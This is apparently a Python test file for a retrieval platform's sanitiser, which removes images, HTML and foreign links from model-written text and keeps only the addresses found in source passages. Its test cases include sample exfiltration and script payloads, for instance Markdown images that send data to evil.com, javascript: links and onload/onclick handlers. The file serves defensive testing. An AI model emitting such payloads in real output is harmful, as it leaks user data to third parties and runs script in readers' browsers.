"""What a model wrote, without what could load something or lead where the passages do not."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag_platform.query.sanitise import REMOVED, Sanitiser, addresses, sanitise
from rag_platform_tests.query.passages import passage

KNOWN = "https://docs.example.com/a_(b)?q=1"
ALLOWED = addresses(
    [
        passage(1, f"See {KNOWN}, or (www.example.com/help). Then https://example.com/x/y."),
        passage(2, "no address", uri="https://wiki.example.com/page"),
    ]
)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        # images: never
        ("a ![chart](https://evil.com/i?d=secret) b", "a chart b"),
        (f"a ![chart]({KNOWN}) b", "a chart b"),
        ('<img src="https://evil.com/i?d=1">', ""),
        ("x<IMG SRC=//evil.com/i>y", "x y"),
        ("<svg/onload=alert(1)>", ""),
        # links: the label stays
        ("read [the guide](https://evil.com/?d=1).", "read the guide."),
        ("read [the guide](https://example.com/x/y).", "read [the guide](https://example.com/x/y)."),
        ("read [the guide](https://example.com/x/y?d=1).", "read the guide."),
        ("read [the guide](<https://evil.com/a b> 'title').", "read the guide."),
        ("[a [nested] label](//evil.com)", "a [nested] label"),
        ("[![pic](https://evil.com/1)](https://evil.com/2)", "pic"),
        ("[x](javascript:alert(1))", "x"),
        ("so [1](https://evil.com) and [2].", "so [1] and [2]."),
        ("[https://evil.com/a](https://example.com/x/y)", f"[{REMOVED}](https://example.com/x/y)"),
        ("[x]: https://evil.com/a", f"[x] : {REMOVED}"),
        ("[x]: //evil.com/a", f"[x] : {REMOVED}"),
        ("[1]: http&#58;//evil.com", f"[1] : {REMOVED}"),
        # bare addresses
        ("go to https://evil.com/?d=1, then", f"go to {REMOVED}, then"),
        ("(see https://example.com/x/y).", "(see https://example.com/x/y)."),
        (f"at {KNOWN}.", f"at {KNOWN}."),
        ("www.example.com/help and www.evil.com", f"www.example.com/help and {REMOVED}"),
        ("HTTPS://EVIL.COM ftp://evil s3://bucket/key", f"{REMOVED} {REMOVED} {REMOVED}"),
        ("<https://evil.com/a>", f"< {REMOVED}>"),
        ("ht\\tps://evil.com https:\\//evil.com", f"ht\\{REMOVED} {REMOVED}"),
        ("详见https://evil.com/a。谢谢", f"详见{REMOVED}。谢谢"),
        ("the page https://wiki.example.com/page/", "the page https://wiki.example.com/page/"),
        # HTML that leads somewhere goes, its text stays
        ("<a href='https://evil.com'>here</a>.", "here."),
        ("<iframe src=x></iframe><form action=y>z</form>", "z"),
        ("<b onclick=alert(1)>bold</b>", "bold</b>"),
        ("cut <img src='https://evil.com/?", f"cut < img src='{REMOVED}?"),
        # nothing that is taken out makes a new thing of its neighbours
        ("https:/<a x=1>/evil.com", "https:/ /evil.com"),
        ("ht[t](u)ps://evil.com", f"ht t {REMOVED}"),
        ("[1](u)(https://evil.com)", f"[1] ({REMOVED})"),
        ("!<a x=1>[x](https://example.com/x/y)", "! [x](https://example.com/x/y)"),
        # a model's thoughts
        ("<think>it says [x](y) so</think>\n\nThirty [1].", "\n\nThirty [1]."),
        ("<think>never ends", ""),
        # what is none of this stays to the character
        ("Drains for 30 s [1][2]. If a < b && c > d: Map<String, Integer> <pod-name> <br/> a[0](x) …", None),
        ('`x = y!` and **bold** / _it_ : 50% [note] (see) don\'t "quote"\n- item\n', None),
        ("[", None),
        ("!", None),
        ("<", None),
        ("[a](", "[a] ("),
    ],
)
def test_what_is_left(text: str, left: str | None) -> None:
    """Each construct, and what a reader sees of it (None: all)."""
    if left is None and "a[0](x)" in text:
        left = text.replace("a[0](x)", "a[0]")  # a call behind an index is a link to Markdown
    assert sanitise(text, ALLOWED) == (text if left is None else left)


PIECES = st.sampled_from(
    [*"[]()<>!:/\\&;.,' \n=a1", "http", "https://", "evil.com", KNOWN, "https://example.com/x/y", "www.", "![", "](",
     "<a href=", "</a>", "<img src=x>", "<think>", "</think>", "[1]", "&#58;", "\n\n", "漢字", "。", "word "]
)  # fmt: skip
TEXTS = st.one_of(st.lists(PIECES, max_size=25).map("".join), st.text(max_size=60))


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 200), max_size=8))
@example("<think>a</think>", [3])
@example("a http", [3, 5])
def test_pieces_make_no_difference(text: str, cuts: list[int]) -> None:
    """However a stream is cut, what comes out is what the whole text gives, and sanitising again changes nothing."""
    whole = sanitise(text, ALLOWED)
    sanitiser = Sanitiser(ALLOWED)
    places = sorted({0, len(text), *(c for c in cuts if c < len(text))})
    out = [sanitiser.feed(text[a:b]) for a, b in itertools.pairwise(places)]
    assert "".join([*out, sanitiser.finish()]) == whole
    one = Sanitiser(ALLOWED)
    assert "".join([*map(one.feed, text), one.finish()]) == whole
    assert sanitise(whole, ALLOWED) == whole


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_no_foreign_address_and_no_image_comes_through(text: str) -> None:
    """Whatever the model writes, only addresses of the passages are left, and nothing that loads by itself."""
    left = sanitise(text, ALLOWED)
    assert not re.search(r"!\[[^\]]*\]\(", left)
    assert not re.search(r"<(?:img|a|iframe|script)\b[^<>]*>", left, re.I)  # with a blank behind "<" it is text
    for address in re.findall(r"(?:https?://|www\.)[^\s<>\"'`|^{}\[\]!，。]+", left):
        assert any(address.startswith(known) for known in ALLOWED)
    for target in re.findall(r"\]\(([^)]*)\)", left):
        assert target in ALLOWED


def test_a_stream_is_held_back_by_a_word_at_most() -> None:
    """Ordinary text comes through word by word: a reader is not kept waiting for what cannot be a link."""
    sanitiser = Sanitiser()
    assert sanitiser.feed("Connections are dra") == "Connections are "
    assert sanitiser.feed("ined for 30 s [1]") == "drained for 30 s "
    assert sanitiser.feed(". Then") == "[1]. "
    assert sanitiser.finish() == "Then"


def test_long_hostile_text_takes_linear_time() -> None:
    """Nothing that a model can write makes the sanitiser slow."""
    for text in ("[" * 20_000, "[](" * 7_000, "<a " * 7_000, "a" * 20_000, "![[" * 7_000, "www." * 5_000, "(" * 20_000):
        sanitise(text)
